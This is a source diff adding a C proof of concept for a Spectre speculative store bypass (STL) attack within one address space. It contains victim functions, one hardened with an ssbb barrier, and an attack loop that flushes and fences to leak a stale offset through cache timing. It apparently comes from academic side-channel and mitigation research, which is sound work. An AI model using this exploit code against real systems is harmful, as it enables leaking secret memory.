@@ -0,0 +1,73 @@
+/**
+ * \brief  Spectre STL-SA.
+ * \author Pierre AYOUB -- IRISA, CNRS
+ * \date   2020
+ *
+ * \details This file contain a Spectre attack targeting the memory
+ *          disambiguation, in a same address-space.
+ * \warning Same as the PHT variant: code is weird on purpose, to minimize the
+ *          branch predictor and cache overhead.
+ */
+
+#include <stdio.h>
+#include <string.h>
+#include <stdint.h>
+
+/* Contain ARMv8 or x86-64 implementation of flush, rdtsc and [im]fence. */
+#include "asm.h"
+
+#include "spectre_stl_sa.h"
+
+/* * Victim code: */
+
+/* ** Private functions: */
+
+/* Function that will be tricked by Spectre: store a legit offset at an
+   address slow to compute, and use the offset loaded back, "stl_delay"
+   dependent instructions later. */
+static HOT_PATH HOT_SECTION("victim") void victim_stl(struct spectre_ctx * ctx, size_t x) {
+    *ctx->stl_ptr = x;
+    ctx->temp &= ctx->array2[ctx->array1[*(size_t *) delay_chain((size_t) &ctx->stl_offset, ctx->args.stl_delay)] * PAGESIZE];
+}
+
+/* Same, hardened with a speculative store bypass barrier. */
+static HOT_PATH HOT_SECTION("victim") void victim_stl_ssbb(struct spectre_ctx * ctx, size_t x) {
+    *ctx->stl_ptr = x;
+    ssbb();
+    ctx->temp &= ctx->array2[ctx->array1[*(size_t *) delay_chain((size_t) &ctx->stl_offset, ctx->args.stl_delay)] * PAGESIZE];
+}
+
+/* * Attack code: */
+
+/* ** Public functions: */
+
+int spectre_stl_sa_victim_init(struct spectre_ctx * ctx) {
+    ctx->stl_ptr = &ctx->stl_offset;
+    /* Without the flush, both victims are their own bare version. */
+    if (!strcmp(ctx->args.mitigation, "none")) {
+        ctx->victim = ctx->victim_bare = victim_stl;
+    } else if (!strcmp(ctx->args.mitigation, "ssbb")) {
+        ctx->victim = ctx->victim_bare = victim_stl_ssbb;
+    } else {
+        fprintf(stderr, "Unknown mitigation for the STL variant: %s\n", ctx->args.mitigation);
+        return 1;
+    }
+    return 0;
+}
+
+HOT_PATH HOT_SECTION("probe") void spectre_stl_sa_attack(struct spectre_ctx * ctx, size_t training_x, size_t malicious_x) {
+    /* i: Count the number of attacks. */
+    int i;
+
+	/* Execute 30 loops (by default), all of them are attack runs. */
+	for (i = ctx->loops; i >= 0; i--) {
+        /* Leave the malicious offset as the stale value, and slow down the
+           address of the store of the victim. */
+        ctx->stl_offset = malicious_x;
+        flush(&ctx->stl_ptr);
+        /* Ensure data is flushed at this point. */
+        mfence();
+        ifence();
+		ctx->victim(ctx, training_x);
+	}
+}